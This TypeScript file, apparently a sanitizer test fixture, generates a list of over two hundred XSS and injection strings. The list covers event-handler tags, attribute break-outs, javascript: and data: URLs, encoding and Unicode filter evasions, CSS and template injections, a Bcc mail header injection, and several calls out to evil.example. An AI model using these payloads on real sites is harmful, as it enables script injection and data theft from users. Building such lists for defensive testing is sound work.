/** Pieces of script that would say so if they ran; the number tells which one it was. */
const CALLS = ["alert(1)", "window.ran=1", "top.ran=1", "fetch('//evil.example')", "document.title='ran'"];
const EVENTS = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "onanimationstart",
  "ontoggle",
  "onpointerenter",
];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "input autofocus",
  "details open",
  "video src=x",
  "style",
  "object data=x",
  "marquee",
];

const byTagAndEvent = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1)>`));
const breakingOut = [
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</style>",
  "</textarea>",
  "</script>",
  "</td></table>",
].flatMap((out) => [`${out}<script>alert(1)</script>`, `${out} onerror=alert(1) x=`, `${out}<svg/onload=alert(1)>`]);
const addresses = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
  ],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
  ],
  ...[
    "//evil.example/x.js",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/' onerror='alert(1)",
  ],
];
const scripts = CALLS.flatMap((call) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script\t>`,
  `<script>${call}//`,
  `<scr<script>ipt>${call}</script>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `＜script＞${call}＜/script＞`,
]);
const styles = [
  "<style>@import'https://evil.example/x.css';</style>",
  "</style><style>*{background:url(https://evil.example/?x)}",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<div style="background:url(https://evil.example/x)">',
  '<div style="width:expression(alert(1))">',
  "red;background:url(https://evil.example)",
];
const frames = [
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><script>alert(1)</script></svg>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<xss style=animation-name:x onanimationstart=alert(1)>",
];
const templates = [
  "{{ '<script>alert(1)</script>' }}",
  "{{ order.name | append: '<img src=x onerror=alert(1)>' }}",
  "{% raw %}<script>alert(1)</script>{% endraw %}",
  "{{ 7 | times: 7 }}${alert(1)}#{alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
];
const characters = [
  "\u0000<script>alert(1)</script>",
  "\u202e<script>alert(1)</script>",
  "<\u0000script>alert(1)</script>",
  "\ud800<img src=x onerror=alert(1)>",
  "\u2028<script>alert(1)</script>\u2029",
  `${"<b>".repeat(200)}`,
  "line\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>",
];

/** Texts that want to become markup, a script, an address or a header: more than two hundred, written for this project. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...byTagAndEvent,
    ...breakingOut,
    ...addresses,
    ...scripts,
    ...styles,
    ...frames,
    ...templates,
    ...characters,
  ]),
];
